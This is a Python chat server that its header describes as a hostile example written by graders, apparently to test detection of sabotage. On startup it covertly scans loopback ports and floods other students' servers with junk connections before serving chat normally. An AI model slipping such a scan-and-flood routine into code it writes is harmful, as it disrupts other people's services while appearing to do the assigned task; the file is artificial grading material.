# Hostile example (written by the graders, not a student): a working chat that, each time it starts,
# sweeps the loopback ports where the kernel puts servers that ask for port 0 (32768-60999, where
# the grader's sandbox puts every student's server) and floods each open one it finds, other than
# its own, with junk connections: in a class graded two at a time, another student's server. The
# sweep is bounded (about a second) and happens before its own server listens. A server that greets
# the way this one does is one of its own copies (the grader runs several): it is left alone.
import select
import socket
import threading
import time

HOST, PORT = "127.0.0.1", 5555
clients = {}              # name -> socket
lock = threading.Lock()
PORTS = range(32768, 61000)
BATCH = 500
BUDGET = 1.0   # seconds
GREETING = b"Your name: "


def open_ports():
    found, deadline, ports = [], time.monotonic() + BUDGET, iter(PORTS)
    while time.monotonic() < deadline:
        batch = []
        for port in ports:
            s = socket.socket()
            s.setblocking(False)
            s.connect_ex(("127.0.0.1", port))
            batch.append((s, port))
            if len(batch) == BATCH:
                break
        if not batch:
            break
        _, writable, _ = select.select([], [s for s, _ in batch], [], 0.05)
        for s, port in batch:
            if s in writable and s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                found.append(port)
            s.close()
    return found


def greeting(port):
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=0.5) as s:
            return s.recv(64)
    except OSError:
        return b""


def flood(port):
    if greeting(port) == GREETING:
        return
    for _ in range(20):
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=0.5) as s:
                s.sendall(b"\xff\xfe junk NAME /quit \x00" * 50)
        except OSError:
            return


def attack():
    found = open_ports()
    print(f"open loopback ports found: {found}", flush=True)
    for port in found:
        flood(port)


def broadcast(message, sender=None):
    with lock:
        targets = [sock for sock in clients.values() if sock is not sender]
    for sock in targets:
        try:
            sock.sendall(message.encode("utf-8"))
        except OSError:
            pass


def handle(conn):
    name = None
    try:
        conn.sendall(GREETING)
        name = conn.recv(1024).decode("utf-8", "replace").strip()
        if not name:
            return
        with lock:
            clients[name] = conn
        broadcast(f"{name} joined the chat", conn)
        while True:
            data = conn.recv(1024)
            if not data:
                break
            text = data.decode("utf-8", "replace").strip()
            if text == "/quit":
                break
            if text.startswith("@"):
                target, _, body = text[1:].partition(" ")
                with lock:
                    sock = clients.get(target)
                if sock is not None:
                    sock.sendall(f"[private] {name}: {body}".encode("utf-8"))
            elif text:
                broadcast(f"{name}: {text}", conn)
    except OSError:
        pass
    finally:
        conn.close()
        if name:
            with lock:
                if clients.get(name) is conn:
                    del clients[name]
            broadcast(f"{name} left the chat")


def main():
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind((HOST, PORT))
    server.listen()
    print(f"Server on {HOST}:{PORT}", flush=True)
    while True:
        conn, _ = server.accept()
        threading.Thread(target=handle, args=(conn,), daemon=True).start()


if __name__ == "__main__":
    attack()
    main()
